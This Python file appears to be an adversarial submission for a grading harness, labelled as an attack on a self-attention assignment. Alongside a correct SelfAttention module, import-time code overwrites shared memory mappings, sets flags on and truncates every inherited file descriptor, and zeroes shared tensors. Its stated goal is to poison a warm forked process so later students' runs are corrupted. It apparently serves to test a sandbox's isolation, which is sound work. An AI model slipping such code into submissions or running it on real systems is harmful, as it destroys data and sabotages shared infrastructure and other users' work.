# attack:     S8, X5
# assignment: self-attention
# twin:       correct

# Writes into what a fork still shares with the process it came from: shared mappings, open files and their positions,
# the flags of its descriptors, pipes. A poisoned warm process would poison every later student.

import ctypes
import fcntl
import gc
import math
import os

import torch
from torch import nn


def shared():
    with open("/proc/self/maps") as maps:
        for line in maps:
            span, rights, *rest = line.split()
            if rights.startswith("rw") and rights.endswith("s"):
                yield [int(end, 16) for end in span.split("-")], rest[-1]


def write():
    for (first, last), name in shared():
        print("shared", name, last - first)
        size = min(last - first, 1 << 20)
        ctypes.memmove(first, b"left behind".ljust(64, b"\0"), min(size, 64))
    for number in range(3, 256):
        try:
            flags = fcntl.fcntl(number, fcntl.F_GETFL)
            fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_NONBLOCK | os.O_APPEND)
            print("descriptor", number, oct(flags))
            os.lseek(number, 0, os.SEEK_SET)
            os.ftruncate(number, 0)
        except OSError:
            continue
    for found in gc.get_objects():
        if isinstance(found, torch.Tensor) and found.is_shared():
            print("shared tensor", tuple(found.shape))
            found.zero_()


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


try:
    write()
except OSError as error:
    print(error.strerror)
